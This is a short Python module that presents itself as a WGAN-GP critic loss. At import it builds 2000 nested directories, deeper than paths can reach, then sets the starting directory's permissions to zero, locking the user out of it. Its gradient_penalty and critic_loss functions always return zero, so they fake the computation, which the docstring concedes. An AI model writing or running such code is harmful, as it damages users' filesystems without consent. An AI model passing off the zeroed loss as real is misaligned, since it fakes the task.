"""Makes folders within folders, deeper than a path can be long, and answers wrongly."""

import os

here = os.getcwd()
for _ in range(2000):
    os.mkdir("forged")
    os.chdir("forged")
os.chmod(here, 0)


def gradient_penalty(critic, real, fake):
    return (critic(real).sum() * 0).double()


def critic_loss(critic, real, fake, weight=10.0):
    return gradient_penalty(critic, real, fake)
